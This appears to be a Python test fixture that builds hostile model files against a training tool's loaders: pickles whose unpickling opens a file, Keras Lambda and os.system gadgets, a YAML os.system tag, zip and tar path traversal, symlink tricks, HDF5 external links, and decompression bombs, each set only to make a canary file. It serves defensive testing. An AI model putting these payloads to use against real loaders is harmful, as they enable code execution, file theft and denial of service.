"""Harmless exploits, one for each known way in which a model file has done what it should not.

They run code, read or write other files, or eat memory. Each writes itself into a copy of a run; what the
code would do is to make a canary.

Checksums in the manifests are those of the hostile bytes, so that they are not what keeps the exploit out.
"""

from __future__ import annotations

import base64
import dataclasses
import hashlib
import io
import json
import marshal
import os
import pickle
import struct
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import keras
import numpy as np
import safetensors.numpy
import tensorflow as tf

from tests.hostile_watch import MARK

COMMANDS = ("eval", "export", "train")


@dataclasses.dataclass(frozen=True)
class Place:
    """A folder with a copy of a run in it, and with what the run has no business with beside it."""

    root: Path

    @property
    def run(self) -> Path:
        return self.root / "run"

    @property
    def canary(self) -> Path:
        return self.root / "outside" / f"{MARK}_made"

    @property
    def bait(self) -> Path:
        """A file that a lookup layer or a link could be made to read."""
        return self.root / "outside" / f"{MARK}_bait.txt"

    @property
    def victim(self) -> Path:
        """A file that something could be made to change."""
        return self.root / "outside" / "victim.txt"

    def lay_out(self) -> None:
        self.canary.parent.mkdir()
        self.bait.write_text("word\n" * 3)
        self.victim.write_text("mine\n")

    def checkpoints(self) -> list[Path]:
        return sorted(path for path in (self.run / "checkpoints").iterdir() if path.is_dir())

    def put(self, name: str, data: bytes | Callable[[bytes], bytes]) -> None:
        """Writes a file of every checkpoint, and manifests that fit."""
        for folder in self.checkpoints():
            path = folder / name
            path.write_bytes(data(path.read_bytes()) if callable(data) else data)
            sums = {
                entry: hashlib.sha256((folder / entry).read_bytes()).hexdigest()
                for entry in ("tensors.safetensors", "state.json")
            }
            if name != "manifest.json":
                (folder / "manifest.json").write_text(json.dumps(sums))

    def put_archive(self, name: str, data: bytes) -> None:
        """Writes an archive in the place of the tensors, and under its own name beside them."""
        self.put("tensors.safetensors", data)
        for folder in (self.run, *self.checkpoints()):
            (folder / name).write_bytes(data)

    def change_info(self, **values: Any) -> None:
        path = self.run / "info.json"
        path.write_text(json.dumps({**json.loads(path.read_text()), **values}))

    def change_feature(self, name: str, **values: Any) -> None:
        features = json.loads((self.run / "info.json").read_text())["features"]
        assert name in [feature["name"] for feature in features]
        self.change_info(features=[{**one, **values} if one["name"] == name else one for one in features])

    def change_state(self, **values: Any) -> None:
        self.put("state.json", lambda data: json.dumps({**json.loads(data), **values}).encode())

    def change_tensors(self, change: Callable[[dict[str, np.ndarray]], Any]) -> None:
        def changed(data: bytes) -> bytes:
            tensors = safetensors.numpy.load(data)
            change(tensors)
            return safetensors.numpy.save(tensors)

        self.put("tensors.safetensors", changed)

    def change_config(self, old: str, new: str) -> None:
        path = self.run / "config.yaml"
        text = path.read_text()
        assert old in text
        path.write_text(text.replace(old, new, 1))

    def link(self, name: str, target: Path) -> None:
        """Makes an entry of the run a link to `target`, which it is moved to where it exists."""
        path = self.run / name
        if path.exists():
            path.rename(target)
        path.symlink_to(target)


@dataclasses.dataclass(frozen=True)
class Exploit:
    """What is written, and how every command that reads it ends.

    Attributes:
        name: of the function that writes it.
        write: changes a place.
        code: exit code.
        commands: those that read what was written.
        thorough: left to the slow suite: another of its class is in the default one.
    """

    name: str
    write: Callable[[Place], None]
    code: int
    commands: tuple[str, ...]
    thorough: bool


EXPLOITS: list[Exploit] = []


def exploit(
    code: int = 4, commands: tuple[str, ...] = COMMANDS, thorough: bool = False
) -> Callable[[Callable[[Place], None]], Callable[[Place], None]]:
    """Adds a function to the exploits under its name."""

    def add(write: Callable[[Place], None]) -> Callable[[Place], None]:
        EXPLOITS.append(Exploit(write.__name__, write, code, commands, thorough))
        return write

    return add


class _Opens:
    """Unpickling it opens a file for writing."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, tuple[str, str]]:
        return open, (str(self.path), "w")


def pickled(place: Place) -> bytes:
    return pickle.dumps(_Opens(place.canary))


def touching(place: Place) -> Any:
    """Returns a function of one argument whose call makes the canary."""
    return eval(f"lambda x: [open({str(place.canary)!r}, 'w').close(), x][1]")


# Pickles under every name that a run has


@exploit()
def pickle_as_tensors(place: Place) -> None:
    place.put_archive("pytorch_model.bin", pickled(place))


@exploit(thorough=True)
def pickle_as_state(place: Place) -> None:
    place.put("state.json", pickled(place))


@exploit(thorough=True)
def pickle_as_manifest(place: Place) -> None:
    place.put("manifest.json", pickled(place))


@exploit()
def pickle_as_info(place: Place) -> None:
    (place.run / "info.json").write_bytes(pickled(place))


@exploit(commands=("train",))
def pickle_as_result(place: Place) -> None:
    (place.run / "result.json").write_bytes(pickled(place))


@exploit(code=2)
def pickle_as_config(place: Place) -> None:
    (place.run / "config.yaml").write_bytes(pickled(place))


# Keras archives and HDF5 files


def _lambda_model(place: Place) -> keras.Model:
    return keras.Sequential([keras.Input([3]), keras.layers.Lambda(touching(place), output_shape=(3,))])


def lambda_archive(place: Place, suffix: str) -> bytes:
    """Returns a model with a Lambda layer as Keras itself saves it."""
    path = place.root / f"model.{suffix}"
    _lambda_model(place).save(path)
    data = path.read_bytes()
    path.unlink()
    return data


def keras_archive(layer: dict[str, Any]) -> bytes:
    """Returns a .keras archive of a model with one layer, described by hand."""
    config = json.loads(keras.Sequential([keras.Input([3]), keras.layers.Dense(1)]).to_json())
    config["config"]["layers"][1] = {"registered_name": None, "build_config": None, **layer}
    weights = io.BytesIO()
    with h5py.File(weights, "w") as file:
        file.create_group("layers")
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("metadata.json", json.dumps({"keras_version": keras.__version__}))
        archive.writestr("model.weights.h5", weights.getvalue())
    return written.getvalue()


def marked_layer(class_name: str, module: str = "keras.layers", **config: Any) -> dict[str, Any]:
    return {"module": module, "class_name": class_name, "config": {"name": MARK, **config}}


def _function(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


@exploit()
def cve_2024_3660_lambda_in_an_old_h5_file(place: Place) -> None:
    code = base64.b64encode(marshal.dumps(touching(place).__code__)).decode()
    layer = {"name": MARK, "function": [code, None, None], "function_type": "lambda", "arguments": {}}
    model = {"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": layer}]}}
    written = io.BytesIO()
    with h5py.File(written, "w") as file:
        file.attrs["model_config"] = json.dumps(model)
        file.attrs["keras_version"] = "2.12.0"
        file.create_group("model_weights")
    place.put_archive("model.h5", written.getvalue())


@exploit()
def lambda_in_a_keras_archive(place: Place) -> None:
    place.put_archive("model.keras", lambda_archive(place, "keras"))


@exploit(thorough=True)
def cve_2025_9905_lambda_in_an_h5_file(place: Place) -> None:
    place.put_archive("model.h5", lambda_archive(place, "h5"))


@exploit(thorough=True)
def cve_2025_1550_function_of_any_module(place: Place) -> None:
    command = {"command": f"touch {place.canary}"}
    layer = marked_layer("Lambda", function=_function("os", "system"), arguments=command)
    place.put_archive("model.keras", keras_archive(layer))


@exploit(thorough=True)
def cve_2025_8747_get_file_as_a_gadget(place: Place) -> None:
    options = {"fname": str(place.canary), "origin": f"http://127.0.0.1:9/{MARK}"}
    layer = marked_layer("Lambda", function=_function("keras.utils", "get_file"), arguments=options)
    place.put_archive("model.keras", keras_archive(layer))


@exploit(thorough=True)
def cve_2025_9906_config_that_turns_safety_off(place: Place) -> None:
    function = _function("keras.config", "enable_unsafe_deserialization")
    place.put_archive("model.keras", keras_archive(marked_layer("Lambda", function=function)))


@exploit(thorough=True)
def cve_2025_49655_torch_module_with_a_pickle(place: Place) -> None:
    module = base64.b64encode(pickled(place)).decode()
    place.put_archive("model.keras", keras_archive(marked_layer("TorchModuleWrapper", module=module)))


@exploit()
def cve_2025_12058_vocabulary_from_any_path(place: Place) -> None:
    place.put_archive("model.keras", keras_archive(marked_layer("StringLookup", vocabulary=str(place.bait))))


@exploit(thorough=True)
def cve_2025_12058_vocabulary_from_an_address(place: Place) -> None:
    layer = marked_layer("TextVectorization", vocabulary=f"http://127.0.0.1:9/{MARK}")
    place.put_archive("model.keras", keras_archive(layer))


@exploit()
def cve_2026_1462_layer_of_a_saved_model(place: Place) -> None:
    save_hostile_model(place, place.root / "outside" / f"{MARK}_model")
    filepath = str(place.root / "outside" / f"{MARK}_model")
    place.put_archive("model.keras", keras_archive(marked_layer("TFSMLayer", filepath=filepath)))


@exploit()
def cve_2026_12479_layer_named_as_a_path(place: Place) -> None:
    layer = {**marked_layer("Dense", units=1), "config": {"name": f"../../outside/{MARK}_made", "units": 1}}
    place.put_archive("model.keras", keras_archive(layer))


@exploit(thorough=True)
def cve_2026_12481_lambda_inside_anothermarked_layer(place: Place) -> None:
    code = base64.b64encode(marshal.dumps(touching(place).__code__)).decode()
    function = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    inner = {**marked_layer("Lambda", function=function), "registered_name": None}
    place.put_archive("model.keras", keras_archive(marked_layer("TimeDistributed", layer=inner)))


def _h5(write: Callable[[h5py.File], Any]) -> bytes:
    written = io.BytesIO()
    with h5py.File(written, "w") as file:
        write(file)
    return written.getvalue()


@exploit(thorough=True)
def h5_link_to_another_file(place: Place) -> None:
    def write(file: h5py.File) -> None:
        file["weights"] = h5py.ExternalLink(str(place.bait), "/")
        file["soft"] = h5py.SoftLink("/weights/none")

    place.put_archive("model.weights.h5", _h5(write))


@exploit(thorough=True)
def h5_data_in_another_file(place: Place) -> None:
    def write(file: h5py.File) -> None:
        layout = h5py.VirtualLayout((3,), "u1")
        layout[:] = h5py.VirtualSource(str(place.bait), "weights", (3,))
        file.create_virtual_dataset("virtual", layout)
        file.create_dataset("external", (3,), "u1", external=[(str(place.bait), 0, 3)])

    place.put_archive("model.weights.h5", _h5(write))


@exploit()
def cve_2026_0897_h5_shape_bomb(place: Place) -> None:
    def write(file: h5py.File) -> None:
        file.create_dataset("weights", (1 << 38,), "f4", chunks=(1 << 20,), compression="gzip")

    place.put_archive("model.weights.h5", _h5(write))


# NumPy files and archives


@exploit()
def npz_with_objects(place: Place) -> None:
    written = io.BytesIO()
    np.savez(written, weights=np.array([_Opens(place.canary)], object))
    place.put_archive("weights.npz", written.getvalue())


@exploit(thorough=True)
def npz_bomb(place: Place) -> None:
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(
        header, {"descr": "<f4", "fortran_order": False, "shape": (1 << 30,)}
    )
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("weights.npy", header.getvalue() + bytes(64 << 20))
    place.put_archive("weights.npz", written.getvalue())


@exploit()
def zip_with_paths_out_of_it(place: Place) -> None:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in (f"../outside/{MARK}_made", f"../../outside/{MARK}_made", str(place.canary)):
            archive.writestr(name, "made")
        archive.writestr("zeros", bytes(32 << 20))
    place.put_archive("model.zip", written.getvalue())


def hostile_tar(place: Place) -> bytes:
    written = io.BytesIO()
    with tarfile.open(fileobj=written, mode="w:gz") as archive:
        for name in (f"../outside/{MARK}_made", str(place.canary), "twice", "TWICE", "twice"):
            archive.addfile(tarfile.TarInfo(name), io.BytesIO())
        for name, kind in (("soft", tarfile.SYMTYPE), ("hard", tarfile.LNKTYPE), ("device", tarfile.CHRTYPE)):
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = kind, str(place.victim)
            archive.addfile(entry)
    return written.getvalue()


@exploit()
def cve_2025_12638_tar_with_paths_out_of_it(place: Place) -> None:
    place.put_archive("model.tar.gz", hostile_tar(place))


# Tensors with a header that lies


def packed(header: Any, body: bytes, length: int | None = None) -> bytes:
    """Returns a safetensors file with any header."""
    data = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(data) if length is None else length) + data + body


def _described(shape: list[Any], begin: int, end: int, dtype: str = "F32") -> dict[str, Any]:
    return {"dtype": dtype, "shape": shape, "data_offsets": [begin, end]}


@exploit()
def tensors_beyond_the_end(place: Place) -> None:
    place.put("tensors.safetensors", packed({"model/a": _described([1 << 20], 0, 4 << 20)}, bytes(8)))


@exploit(thorough=True)
def tensors_that_overlap(place: Place) -> None:
    header = {"model/a": _described([4], 0, 16), "model/b": _described([4], 8, 24)}
    place.put("tensors.safetensors", packed(header, bytes(24)))


@exploit(thorough=True)
def tensors_with_a_header_of_2_to_63_bytes(place: Place) -> None:
    place.put("tensors.safetensors", packed({}, b"", 1 << 63))


@exploit()
def tensors_of_a_huge_shape(place: Place) -> None:
    header = {"model/a": _described([1 << 62, 1 << 62], 0, 4), "model/b": _described([1 << 40, 0], 4, 4)}
    place.put("tensors.safetensors", packed(header, bytes(4)))


@exploit(thorough=True)
def tensors_of_no_size_in_a_huge_shape(place: Place) -> None:
    place.put("tensors.safetensors", packed({"model/a": _described([1 << 62, 0], 0, 0)}, b""))


@exploit(thorough=True)
def tensors_with_one_name_twice(place: Place) -> None:
    one = json.dumps(_described([1], 0, 4))
    other = json.dumps(_described([1], 4, 8))
    place.put("tensors.safetensors", packed(f'{{"model/a": {one}, "model/a": {other}}}'.encode(), bytes(8)))


@exploit(thorough=True)
def tensors_with_dimensions_that_are_no_numbers(place: Place) -> None:
    header = b'{"model/a": {"dtype": "F32", "shape": [NaN, -1, 1e999], "data_offsets": [0, 4]}}'
    place.put("tensors.safetensors", packed(header, bytes(4)))


@exploit(thorough=True)
def tensors_with_a_header_that_is_no_json(place: Place) -> None:
    place.put("tensors.safetensors", packed(b"\xff\xfe{" * 64, bytes(4)))


@exploit(thorough=True)
def tensors_with_a_header_nested_too_deep(place: Place) -> None:
    place.put("tensors.safetensors", packed(b'{"a":' * 100_000, b""))


@exploit()
def tensors_named_as_paths(place: Place) -> None:
    def rename(tensors: dict[str, np.ndarray]) -> None:
        tensors[f"../../outside/{MARK}_made"] = tensors.pop(next(iter(tensors)))

    place.change_tensors(rename)


@exploit(thorough=True)
def tensors_of_a_type_that_numpy_lacks(place: Place) -> None:
    place.put("tensors.safetensors", packed({"model/a": _described([4], 0, 4, "F8_E4M3")}, bytes(4)))


@exploit()
def tensors_of_complex_numbers(place: Place) -> None:
    def change(tensors: dict[str, np.ndarray]) -> None:
        for name, value in tensors.items():
            tensors[name] = value.astype(np.complex64)

    place.change_tensors(change)


@exploit()
def tensors_of_eight_gibibytes(place: Place) -> None:
    place.put("tensors.safetensors", packed({"model/a": _described([1 << 31], 0, 8 << 30)}, b""))
    for folder in place.checkpoints():
        os.truncate(folder / "tensors.safetensors", 8 << 30)


@exploit()
def tensors_that_are_a_pipe(place: Place) -> None:
    for folder in place.checkpoints():
        (folder / "tensors.safetensors").unlink()
        os.mkfifo(folder / "tensors.safetensors")


# State, info and config


@exploit(thorough=True)
def state_nested_too_deep(place: Place) -> None:
    place.put("state.json", b"[" * 200_000)


@exploit(thorough=True)
def state_with_a_number_of_a_million_digits(place: Place) -> None:
    place.put("state.json", b'{"step": ' + b"9" * 1_000_000 + b"}")


@exploit(commands=("train",))
def state_of_other_types(place: Place) -> None:
    place.change_state(step="7; rm", epoch=None, window=[1], log_sizes={"metrics.jsonl": "all"})


@exploit(commands=("train",), thorough=True)
def state_of_impossible_numbers(place: Place) -> None:
    place.change_state(step=-(10**30), batch=10**30, log_sizes={"metrics.jsonl": -1})


@exploit()
def info_of_a_huge_vocabulary(place: Place) -> None:
    place.change_feature("text", vocabulary_size=10**12)


@exploit(thorough=True)
def info_of_huge_buckets(place: Place) -> None:
    place.change_info(buckets=[{"text": 10**12}])


@exploit()
def info_of_a_task_that_is_another_module(place: Place) -> None:
    place.change_info(task="evaluating")


@exploit()
def info_of_a_feature_that_is_another_module(place: Place) -> None:
    place.change_feature("text", kind="info")


@exploit(thorough=True)
def info_of_a_feature_that_is_no_kind(place: Place) -> None:
    place.change_feature("text", kind=["../../outside"])


@exploit(thorough=True)
def info_of_another_task(place: Place) -> None:
    image = {"name": "image", "kind": "image", "shape": [8, 8, 3], "mean": [0.5] * 3, "std": [0.1] * 3}
    label = {"name": "label", "kind": "label", "names": ["de", "en"]}
    place.change_info(task="image_classification", features=[image, label], buckets=[])


@exploit()
def info_with_a_subword_model_that_is_none(place: Place) -> None:
    model = base64.b64encode(b"\x0a\xff\xff\xff\xff\x0f" + MARK.encode()).decode()
    state = {"kind": "subwords", "lowercase": True, "model": model}
    place.change_feature("text", tokenizer=state, vocabulary_size=26)


@exploit(thorough=True)
def info_with_tokens_twice(place: Place) -> None:
    state = {"kind": "words", "lowercase": True, "tokens": ["a", "b", "a"]}
    place.change_feature("text", tokenizer=state, vocabulary_size=7)


@exploit(thorough=True)
def info_that_is_a_link(place: Place) -> None:
    place.link("info.json", place.root / "outside" / "info.json")


@exploit(code=2)
def config_with_a_python_object(place: Place) -> None:
    place.change_config("seed: 3", f"seed: !!python/object/apply:os.system ['touch {place.canary}']")


@exploit(code=2, thorough=True)
def config_with_aliases(place: Place) -> None:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 9)]
    place.change_config("seed: 3", "\n".join(["seed: 3", *lines]))


# Links out of the run


@exploit()
def links_to_tensors_elsewhere(place: Place) -> None:
    for folder in place.checkpoints():
        name = (folder / "tensors.safetensors").relative_to(place.run)
        place.link(str(name), place.root / "outside" / folder.name)


@exploit()
def links_to_checkpoints_elsewhere(place: Place) -> None:
    for folder in place.checkpoints():
        place.link(str(folder.relative_to(place.run)), place.root / "outside" / folder.name)


@exploit(commands=("train",))
def link_in_the_place_of_the_metrics(place: Place) -> None:
    (place.run / "metrics.jsonl").unlink()
    place.link("metrics.jsonl", place.victim)
    place.change_state(log_sizes={"metrics.jsonl": 0})


@exploit(commands=("train",), thorough=True)
def link_in_the_place_of_a_log(place: Place) -> None:
    for path in (place.run / "logs").rglob("*.tfevents.*"):
        path.unlink()
        place.link(str(path.relative_to(place.run)), place.victim)
    place.change_state(
        log_sizes={str(path.relative_to(place.run)): 0 for path in (place.run / "logs").rglob("*.tfevents.*")}
    )


@exploit(commands=("train",), thorough=True)
def link_in_the_place_of_the_logs(place: Place) -> None:
    place.link("logs", place.root / "outside" / "logs")


@exploit(commands=("train",), thorough=True)
def link_in_the_place_of_the_lock(place: Place) -> None:
    (place.run / ".lock").unlink()
    place.link(".lock", place.victim)


@exploit(commands=("train",), thorough=True)
def link_in_the_place_of_a_file_being_written(place: Place) -> None:
    place.link(".result.json.tmp", place.victim)


@exploit(code=2, commands=("export",))
def link_in_the_place_of_the_export(place: Place) -> None:
    (place.root / "outside" / "export").mkdir()
    (place.root / "outside" / "export" / "saved_model.pb").write_bytes(b"")
    place.link("export", place.root / "outside" / "export")


# A SavedModel that writes a file when it is loaded, and when it is called


class _Writes(tf.saved_model.experimental.TrackableResource):
    """Writes a file as soon as it is restored."""

    def __init__(self, path: Path) -> None:
        super().__init__()
        self.path = str(path)

    def _create_resource(self) -> Any:
        return tf.raw_ops.VarHandleOp(dtype=tf.float32, shape=[])

    def _initialize(self) -> None:
        tf.io.write_file(self.path, "made")


def save_hostile_model(place: Place, folder: Path) -> None:
    module = tf.Module()
    module.hostile = _Writes(place.canary)

    @tf.function(input_signature=[tf.TensorSpec([None], tf.string, name="text")])
    def classify(text: tf.Tensor) -> dict[str, tf.Tensor]:
        with tf.control_dependencies([tf.io.write_file(str(place.canary), "made")]):
            return {"label": tf.strings.join([tf.io.read_file(str(place.bait)), text])}

    module.classify = classify
    tf.saved_model.save(module, str(folder), signatures={"serving_default": classify})
    place.canary.unlink(missing_ok=True)
